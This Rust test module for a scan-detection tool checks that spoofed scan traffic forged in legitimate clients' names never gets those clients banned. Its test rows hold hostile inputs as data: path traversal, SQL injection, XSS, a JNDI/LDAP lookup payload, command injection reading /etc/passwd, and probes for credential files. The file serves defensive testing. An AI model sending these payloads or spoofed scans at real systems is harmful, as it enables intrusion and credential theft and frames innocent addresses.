//! Evidence in other people's names. The client whose name is used goes on being served and is not
//! banned; forged evidence may shield its address, which costs a client nothing.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket},
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use scanguard_common::wire::{protocol, tcp_flags::*};

use super::{
    DEFAULT, Expect, Play, Position, Role, Row,
    bridge::{Bridge, Family, SERVER, SERVER6},
    client::{Client, hello, request},
    control::SCANNER,
    forge::{Forger, JUNK, Segment},
    outcome::Verdict,
    scene::{OPEN, Scene, Target},
};
use crate::fixtures::{clients, frames};

/// ECN-Echo and Congestion Window Reduced (RFC 3168).
const ECN: u8 = 0xc0;
/// Where nobody listens.
const CLOSED: u16 = 1_000;

const fn forged(name: &'static str, attack: fn(&Forger<'_>, &Target) -> Result<()>) -> Row {
    Row {
        name,
        role: Role::Forger,
        position: Position::OffPath,
        must: "the client is served before, during and after, and not banned",
        expect: Expect::Holds,
        config: DEFAULT,
        slow: false,
        play: Play::InTheirNames(attack),
    }
}

/// A row whose attack and verdict are its own.
const fn script(name: &'static str, must: &'static str, play: fn(&mut Scene<'_>) -> Result<Verdict>) -> Row {
    Row::script(Role::Forger, name, must, play).from(Position::OffPath)
}

/// All that is said is looked at.
const PLENTY: &str = "[samples]\nsource_budget = 5000\n";
/// Bans also on evidence that anybody can forge.
const SPOOFABLE: &str = "allow_spoofable = true";

pub(super) const ROWS: &[Row] = &[
    forged("NULL segments", |forger, target| flags(forger, target, &[0])),
    forged("FIN segments", |forger, target| flags(forger, target, &[FIN])),
    forged("Xmas segments", |forger, target| flags(forger, target, &[FIN | PSH | URG])),
    forged("SYN+FIN, SYN+RST and other odd flags", |forger, target| {
        flags(forger, target, &[SYN | FIN, SYN | RST, FIN | URG, PSH, URG, CLASSIC, SYN | FIN | ECN])
    }),
    forged("SYNs to 30 closed ports", |forger, target| syns(forger, target, (0..30).map(|n| CLOSED + 37 * n))),
    forged("SYNs to ten ports one after another, as the sequential test counts", |forger, target| {
        syns(forger, target, CLOSED..CLOSED + 10)
    }),
    forged("SYNs to ten closed ports, one every 100 ms", |forger, target| {
        forger.pace(Duration::from_millis(100));
        syns(forger, target, (0..10).map(|n| CLOSED + 101 * n))
    }),
    forged("SYNs to one port of 40 addresses, as in a sweep", |forger, target| {
        homes(forger, target, |forger, ip| {
            forger.tcp(target.from(40_000), SocketAddr::new(ip, 22), &Segment { acknowledgment: 0, ..Segment::junk(SYN) })
        })
    }),
    forged("SYNs to twelve ports of 40 addresses, as of a block", |forger, target| {
        homes(forger, target, |forger, ip| {
            for port in CLOSED..CLOSED + 12 {
                let segment = Segment { acknowledgment: 0, ..Segment::junk(SYN) };
                forger.tcp(target.from(40_000), SocketAddr::new(ip, port), &segment)?;
            }
            Ok(())
        })
    }),
    forged("ACK segments, empty datagrams and pings to 40 addresses", |forger, target| {
        let (number, echo) = echo(target.family);
        homes(forger, target, |forger, ip| {
            forger.tcp(target.from(40_000), SocketAddr::new(ip, 22), &Segment::junk(ACK))?;
            forger.udp(target.from(40_000), SocketAddr::new(ip, 161), b"")?;
            forger.ip(target.client.ip(), ip, number, &frames::icmp(echo))
        })
    }),
    forged("SYNs to closed ports with ECN, and with data", |forger, target| {
        for port in CLOSED..CLOSED + 30 {
            let segment = Segment { flags: SYN | ECN, sequence: JUNK, acknowledgment: 0, data: b"hello" };
            forger.tcp(target.from(40_000), target.to(port), &segment)?;
        }
        Ok(())
    }),
    forged("ACK segments of no connection to 30 closed ports", |forger, target| {
        strays(forger, target, ACK, b"")
    }),
    forged("ACK segments of no connection with data", |forger, target| strays(forger, target, ACK | PSH, b"data")),
    forged("Maimon segments (FIN+ACK) to 30 closed ports", |forger, target| {
        strays(forger, target, FIN | ACK, b"")
    }),
    forged("SYN+ACK segments to 30 closed ports", |forger, target| strays(forger, target, SYN | ACK, b"")),
    forged("RST segments to 30 ports", |forger, target| strays(forger, target, RST, b"")),
    forged("40 empty UDP datagrams to closed ports", |forger, target| datagrams(forger, target, b"")),
    forged("40 UDP datagrams with data to closed ports", |forger, target| datagrams(forger, target, b"hello")),
    forged("SCTP INIT to 20 ports", |forger, target| {
        for port in CLOSED..CLOSED + 20 {
            forger.ip(target.client.ip(), target.server.ip(), SCTP, &frames::sctp(port, 1))?;
        }
        Ok(())
    }),
    forged("SCTP COOKIE-ECHO to 20 ports", |forger, target| {
        for port in CLOSED..CLOSED + 20 {
            forger.ip(target.client.ip(), target.server.ip(), SCTP, &frames::sctp(port, 10))?;
        }
        Ok(())
    }),
    forged("40 IP protocols", |forger, target| {
        for number in 140..180 {
            forger.ip(target.client.ip(), target.server.ip(), number, &[])?;
        }
        Ok(())
    }),
    forged("fragments too small for their header", |forger, target| {
        for port in CLOSED..CLOSED + 10 {
            let segment = super::forge::tcp(target.from(40_000), target.to(port), &Segment::junk(SYN))?;
            let (first, rest) = segment.split_at(8);
            forger.fragment(target.client.ip(), target.server.ip(), protocol::TCP, (0, true), first)?;
            forger.fragment(target.client.ip(), target.server.ip(), protocol::TCP, (1, false), rest)?;
        }
        Ok(())
    }),
    forged("ICMP echo, timestamp, address mask and information requests", |forger, target| {
        let (number, kinds): (u8, &[u8]) = match target.family {
            Family::V4 => (protocol::ICMP, &[8, 13, 15, 17]),
            Family::V6 => (protocol::ICMPV6, &[128, 139]),
        };
        for kind in kinds.iter().cycle().take(20) {
            forger.ip(target.client.ip(), target.server.ip(), number, &frames::icmp(*kind))?;
        }
        Ok(())
    }),
    forged("the probes of nmap -O", fingerprint),
    forged("handshakes with 12 open ports, aborted", |forger, target| {
        for _ in 0..2 {
            for (n, port) in (0..).zip(OPEN) {
                let end = target.from(41_000 + n);
                forger.tcp(end, target.to(port), &Segment { acknowledgment: 0, ..Segment::junk(SYN) })?;
                forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(RST) })?;
            }
        }
        Ok(())
    }),
    forged("handshakes with 12 open ports, said to be complete by junk numbers, then NULL segments", |forger, target| {
        for (n, port) in (0..).zip(OPEN) {
            let end = target.from(42_000 + n);
            forger.tcp(end, target.to(port), &Segment { acknowledgment: 0, ..Segment::junk(SYN) })?;
            forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(ACK) })?;
            forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(FIN | ACK) })?;
        }
        flags(forger, target, &[0])
    }),
    forged("a junk FIN+ACK in the client's connection, then NULL segments", |forger, target| {
        within(forger, target, FIN | ACK)
    }),
    forged("a junk ACK in the client's connection, then NULL segments", |forger, target| within(forger, target, ACK)),
    forged("a junk RST in the client's connection, then NULL segments", |forger, target| within(forger, target, RST)),
    forged("a scanner's request in the client's connection, with junk numbers", |forger, target| {
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Junk)
    }),
    forged("a scanner's request with the connection's right sequence number and a junk acknowledgment", |forger, target| {
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Sequence)
    }),
    forged("a scanner's request with the connection's right acknowledgment and a junk sequence number", |forger, target| {
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Acknowledgment)
    }),
    forged("a scanner's request with sequence numbers just below the window and far above it", |forger, target| {
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Off(0_u32.wrapping_sub(600)))?;
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Off(1 << 30))
    }),
    forged("400 paths of a wordlist in the client's connection, with junk numbers", |forger, target| {
        let requests: Vec<_> = (0..400).map(|n| request(&format!("/word{n}"), None, true)).collect();
        send(forger, target, &requests, |_| Numbered::Junk)
    })
    .with("", PLENTY),
    forged("paths by which ways in are looked for, in the client's connection with junk numbers", |forger, target| {
        let paths = ["/.env", "/.git/config", "/wp-config.php.bak", "/.aws/credentials", "/phpmyadmin/", "/actuator/env"];
        send(forger, target, &paths.map(|path| request(path, None, true)), |_| Numbered::Junk)
    }),
    forged("injections and ways out of the directory, in the client's connection with junk numbers", |forger, target| {
        let paths = [
            "/../../../../etc/passwd",
            "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?x=$%7Bjndi:ldap://192.0.2.1/a%7D",
            "/?c=;cat%20/etc/passwd",
        ];
        let requests: Vec<_> = paths.iter().cycle().take(20).map(|path| request(path, None, true)).collect();
        send(forger, target, &requests, |_| Numbered::Junk)
    }),
    forged("120 names of hosts, in the client's connection with junk numbers", |forger, target| {
        let requests: Vec<_> = (0..120)
            .map(|n| format!("GET / HTTP/1.1\r\nHost: word{n}.shop.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n").into_bytes())
            .collect();
        send(forger, target, &requests, |_| Numbered::Junk)
    }),
    forged("TLS hellos of 20 kinds, in the client's connection with junk numbers", |forger, target| {
        let hellos: Vec<_> = (0..20).map(hello).collect();
        send(forger, target, &hellos, |_| Numbered::Junk)
    }),
    forged("answers of the server in the client's name: 404 to all", |forger, target| {
        let answers = vec![b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(); 60];
        send(forger, target, &answers, |_| Numbered::Junk)
    }),
    forged("DNS queries for the version, for ANY and for transfers", |forger, target| {
        for (n, (name, kind, class)) in [("version.bind", 16, 3), ("shop.test", 255, 1), ("shop.test", 252, 1)]
            .into_iter()
            .cycle()
            .take(12)
            .enumerate()
        {
            forger.udp(target.from(43_000 + u16::try_from(n)?), target.to(53), &query(name, kind, class))?;
        }
        Ok(())
    }),
    forged("DNS queries for 80 names", |forger, target| {
        for n in 0..80 {
            forger.udp(target.from(44_000 + n), target.to(53), &query(&format!("word{n}.shop.test"), 1, 1))?;
        }
        Ok(())
    }),
    forged("several kinds of scan at once", |forger, target| {
        flags(forger, target, &[0, FIN, FIN | PSH | URG, SYN | FIN])?;
        syns(forger, target, CLOSED..CLOSED + 30)?;
        datagrams(forger, target, b"")?;
        strays(forger, target, ACK, b"")?;
        fingerprint(forger, target)
    }),
    script(
        "NULL segments in the names of 20 clients at once, as those of a CDN",
        "each of the clients is served and none is banned",
        many_clients,
    ),
    script(
        "all kinds of scan in the name of a host that this server asks (a resolver, a database)",
        "the server's own connections and queries to it are answered",
        upstream,
    ),
    script(
        "NULL segments from ::ffff:a.b.c.d against the IPv4 client a.b.c.d",
        "the IPv4 client is served and not banned; no finding is about it; the packets are counted as bad_source",
        mapped,
    ),
    script(
        "sources that no host has: multicast, unspecified, loopback, the server's own",
        "the packets are counted as bad_source; nobody is accused of them",
        bad_sources,
    ),
    script(
        "a scan with decoys: the clients' addresses among the scanner's",
        "the clients are served and not banned",
        decoys,
    ),
    script(
        "with allow_spoofable: NULL segments and SYNs in the name of a client that has had connections",
        "it is served and not banned, since it has been a client",
        spoofable_client,
    )
    .with(SPOOFABLE, ""),
    script(
        "with allow_spoofable: NULL segments in the name of an address that never connected",
        "it is banned: this is what the option asks for",
        spoofable_stranger,
    )
    .with(SPOOFABLE, ""),
    forged("a scanner's request in the client's connection, with its right numbers", |forger, target| {
        send(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Right)
    })
    .from(Position::OnPath)
    .limit(
        "somebody on the path who knows both numbers speaks within the connection: the server's TCP accepts it as the client's own \
         words, and no sensor on the server can tell the two apart. TLS and the server's access log are the way out",
    ),
];

/// SCTP (RFC 9260).
const SCTP: u8 = 132;

/// Twelve segments with these flags, by turns, to closed ports and to an open one.
fn flags(forger: &Forger<'_>, target: &Target, flags: &[u8]) -> Result<()> {
    for (n, flags) in (0..12).zip(flags.iter().cycle()) {
        let port = if n % 4 == 3 { target.server.port() } else { CLOSED + n };
        forger.tcp(target.from(40_000 + n), target.to(port), &Segment::junk(*flags))?;
    }
    Ok(())
}

fn syns(forger: &Forger<'_>, target: &Target, ports: impl IntoIterator<Item = u16>) -> Result<()> {
    for port in ports {
        forger.tcp(
            target.from(40_000),
            target.to(port),
            &Segment { acknowledgment: 0, ..Segment::junk(SYN) },
        )?;
    }
    Ok(())
}

fn strays(forger: &Forger<'_>, target: &Target, flags: u8, data: &[u8]) -> Result<()> {
    for port in CLOSED..CLOSED + 30 {
        forger.tcp(target.from(40_000), target.to(port), &Segment { data, ..Segment::junk(flags) })?;
    }
    Ok(())
}

fn datagrams(forger: &Forger<'_>, target: &Target, data: &[u8]) -> Result<()> {
    for port in CLOSED..CLOSED + 40 {
        forger.udp(target.from(40_000), target.to(port), data)?;
    }
    Ok(())
}

/// Sends the probes of nmap for an open port and for a closed one, twice.
fn fingerprint(forger: &Forger<'_>, target: &Target) -> Result<()> {
    let open = target.server.port();
    let kinds = [
        (open, SYN),
        (open, SYN | ECN),
        (open, 0),
        (open, SYN | FIN | URG | PSH),
        (open, ACK),
        (CLOSED, SYN),
        (CLOSED, ACK),
        (CLOSED, FIN | PSH | URG),
    ];
    let (number, echo) = echo(target.family);
    for round in 0..2 {
        for (n, (port, flags)) in (0..).zip(kinds) {
            forger.tcp(target.from(45_000 + 10 * round + n), target.to(port), &Segment::junk(flags))?;
        }
        forger.udp(target.from(45_100), target.to(CLOSED), &[b'C'; 300])?;
        for _ in 0..2 {
            forger.ip(target.client.ip(), target.server.ip(), number, &frames::icmp(echo))?;
        }
    }
    Ok(())
}

/// The protocol, and the type of an echo request.
fn echo(family: Family) -> (u8, u8) {
    match family {
        Family::V4 => (protocol::ICMP, 8),
        Family::V6 => (protocol::ICMPV6, 128),
    }
}

/// Sends to 40 addresses of the server.
fn homes(
    forger: &Forger<'_>,
    target: &Target,
    send: impl Fn(&Forger<'_>, IpAddr) -> Result<()>,
) -> Result<()> {
    (1..=40).try_for_each(|n| send(forger, target.family.home(n)))
}

/// A junk segment in the connection, then evidence that would ban a source that is known to be no forgery.
fn within(forger: &Forger<'_>, target: &Target, kind: u8) -> Result<()> {
    forger.tcp(target.client, target.server, &Segment::junk(kind))?;
    flags(forger, target, &[0])
}

/// Which numbers of the connection are right.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Numbered {
    /// None.
    Junk,
    /// The first.
    Sequence,
    /// The second.
    Acknowledgment,
    /// The second, and the first is so far from being right.
    Off(u32),
    /// Both.
    Right,
}

/// Sends payloads in the client's connection.
fn send(
    forger: &Forger<'_>,
    target: &Target,
    payloads: &[Vec<u8>],
    numbered: fn(&Target) -> Numbered,
) -> Result<()> {
    for data in payloads {
        let mut segment = Segment::carrying(data);
        if let Some(numbers) = target.numbers {
            (segment.sequence, segment.acknowledgment) = match numbered(target) {
                Numbered::Junk => (JUNK, JUNK),
                // Beyond what a stack takes for an old acknowledgment.
                Numbered::Sequence => (numbers.next, numbers.awaited.wrapping_add(1 << 30)),
                Numbered::Acknowledgment => (numbers.next.wrapping_add(1 << 31), numbers.awaited),
                Numbered::Off(by) => (numbers.next.wrapping_add(by), numbers.awaited),
                Numbered::Right => (numbers.next, numbers.awaited),
            };
        }
        forger.tcp(target.client, target.server, &segment)?;
    }
    Ok(())
}

/// A query of one name.
fn query(name: &str, kind: u16, class: u16) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(u8::try_from(label.len()).unwrap_or(0));
        message.extend(label.as_bytes());
    }
    message.push(0);
    message.extend(kind.to_be_bytes());
    message.extend(class.to_be_bytes());
    message
}

/// A target without a connection.
fn stranger(family: Family, client: IpAddr) -> Target {
    Target { family, client: SocketAddr::new(client, 40_000), server: Scene::web(family), numbers: None }
}

fn many_clients(scene: &mut Scene<'_>) -> Result<Verdict> {
    let clients =
        || Family::BOTH.into_iter().flat_map(|family| (21..41).map(move |n| (family, family.client(n))));
    let ((), bystander) = scene.beside_a_bystander(|scene| {
        for (family, client) in clients() {
            scene.served(client, family)?;
        }
        for (family, client) in clients() {
            flags(&scene.forger, &stranger(family, client), &[0])?;
        }
        scene.judged()
    })?;
    let mut wrong: Vec<String> = bystander.into_iter().collect();
    for (family, client) in clients() {
        wrong.extend(scene.fault_with(client, family)?);
        // A banned client waits long for an answer.
        if wrong.len() >= 3 {
            break;
        }
    }
    Ok(Verdict::of(&wrong))
}

fn upstream(scene: &mut Scene<'_>) -> Result<Verdict> {
    const PORT: u16 = 8_080;
    let Bridge { clients: host, server, .. } = scene.bridge;
    let services = clients::serve(host, [PORT])?;
    let mut wrong = Vec::new();
    for family in Family::BOTH {
        let upstream = SocketAddr::new(family.client(13), PORT);
        let answers = host.enter(|| Ok(UdpSocket::bind(upstream)?))?;
        let asks = server.enter(|| Ok(UdpSocket::bind(SocketAddr::new(family.server(), 0))?))?;
        asks.connect(upstream)?;
        for socket in [&answers, &asks] {
            socket.set_read_timeout(Some(Duration::from_secs(3)))?;
        }
        let asked = || -> Result<()> {
            let mut client = Client::connect(server, family.server(), upstream)?;
            client.send(b"hello")?;
            asks.send(b"which?")?;
            let mut message = [0; 64];
            let (_, from) = answers.recv_from(&mut message).context("the query does not arrive")?;
            answers.send_to(b"this", from)?;
            ensure!(asks.recv(&mut message).context("the answer does not arrive")? == 4, "another answer");
            Ok(())
        };
        asked().context("before")?;
        let target = Target { client: upstream, ..stranger(family, upstream.ip()) };
        flags(&scene.forger, &target, &[0, FIN, FIN | PSH | URG, SYN | FIN])?;
        syns(&scene.forger, &target, CLOSED..CLOSED + 30)?;
        datagrams(&scene.forger, &target, b"")?;
        strays(&scene.forger, &target, ACK, b"")?;
        scene.judged()?;
        wrong.extend(asked().err().map(|error| format!("{upstream}: {error:#}")));
    }
    drop(services);
    Ok(Verdict::of(&wrong))
}

fn mapped(scene: &mut Scene<'_>) -> Result<Verdict> {
    let client = Ipv4Addr::new(10, 66, 1, 13);
    scene.served(client.into(), Family::V4)?;
    scene.served(client.into(), Family::V4)?;
    let before = scene.agent.metrics()?.exit("bad_source");
    let from = SocketAddr::new(client.to_ipv6_mapped().into(), 40_000);
    for port in CLOSED..CLOSED + 20 {
        let to = SocketAddr::new(SERVER6.into(), port);
        for flags in [0, SYN, FIN | PSH | URG] {
            scene.forger.tcp(from, to, &Segment::junk(flags))?;
        }
    }
    scene.judged()?;
    let counted = scene.agent.metrics()?.exit("bad_source") - before;
    let mut wrong: Vec<_> = scene.fault_with(client.into(), Family::V4)?.into_iter().collect();
    let rules = scene.rules(client.into());
    if !rules.is_empty() {
        wrong.push(format!("findings about {client}: {}", rules.join(", ")));
    }
    let sent = scene.forger.sent();
    if counted < f64::from(sent) {
        wrong.push(format!("{counted} of {sent} packets were counted as bad_source"));
    }
    Ok(Verdict::of(&wrong))
}

fn bad_sources(scene: &mut Scene<'_>) -> Result<Verdict> {
    let before = scene.agent.metrics()?.exit("bad_source");
    let sources: [IpAddr; 11] = [
        Ipv4Addr::new(224, 0, 0, 1).into(),
        Ipv4Addr::new(239, 1, 2, 3).into(),
        Ipv4Addr::BROADCAST.into(),
        Ipv4Addr::UNSPECIFIED.into(),
        Ipv4Addr::new(127, 0, 0, 1).into(),
        SERVER.into(),
        Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1).into(),
        Ipv6Addr::new(0xff0e, 0, 0, 0, 0, 0, 0, 7).into(),
        Ipv6Addr::UNSPECIFIED.into(),
        Ipv6Addr::LOCALHOST.into(),
        SERVER6.into(),
    ];
    for source in sources {
        let family = if source.is_ipv4() { Family::V4 } else { Family::V6 };
        let target = stranger(family, source);
        flags(&scene.forger, &target, &[0, FIN | PSH | URG, SYN | FIN])?;
        syns(&scene.forger, &target, CLOSED..CLOSED + 30)?;
        datagrams(&scene.forger, &target, b"")?;
    }
    scene.judged()?;
    let counted = scene.agent.metrics()?.exit("bad_source") - before;
    let mut wrong = Vec::new();
    for finding in scene.agent.findings() {
        wrong.push(format!("{} accuses {}", finding["rule"], finding["source"]["ip"]));
    }
    wrong.dedup();
    let sent = scene.forger.sent();
    if counted < f64::from(sent) {
        wrong.push(format!("{counted} of {sent} packets were counted as bad_source"));
    }
    Ok(Verdict::of(&wrong))
}

fn decoys(scene: &mut Scene<'_>) -> Result<Verdict> {
    let clients =
        || Family::BOTH.into_iter().flat_map(|family| (21..25).map(move |n| (family, family.client(n))));
    let ((), bystander) = scene.beside_a_bystander(|scene| {
        for (family, client) in clients() {
            scene.served(client, family)?;
        }
        for family in Family::BOTH {
            // As nmap -D does: each port from the scanner and from each decoy.
            for port in CLOSED..CLOSED + 60 {
                let sources = (21..25).map(|n| family.client(n)).chain([family.attacker(1)]);
                for source in sources {
                    syns(&scene.forger, &stranger(family, source), [port])?;
                }
            }
        }
        scene.judged()
    })?;
    let mut wrong: Vec<String> = bystander.into_iter().collect();
    for (family, client) in clients() {
        wrong.extend(scene.fault_with(client, family)?);
    }
    Ok(Verdict::of(&wrong))
}

fn spoofable_client(scene: &mut Scene<'_>) -> Result<Verdict> {
    let mut wrong = Vec::new();
    for family in Family::BOTH {
        let client = family.client(13);
        scene.served(client, family)?;
        scene.judged()?;
        let target = stranger(family, client);
        flags(&scene.forger, &target, &[0])?;
        syns(&scene.forger, &target, CLOSED..CLOSED + 30)?;
        scene.judged()?;
        wrong.extend(scene.fault_with(client, family)?);
    }
    Ok(Verdict::of(&wrong))
}

fn spoofable_stranger(scene: &mut Scene<'_>) -> Result<Verdict> {
    let mut wrong = Vec::new();
    for family in Family::BOTH {
        let source = family.attacker(40);
        flags(&scene.forger, &stranger(family, source), &[0])?;
        if !scene.is_banned_soon(source)? {
            wrong.push(format!("{source} is not banned; its findings: {}", scene.rules(source).join(", ")));
        }
    }
    Ok(Verdict::of(&wrong))
}
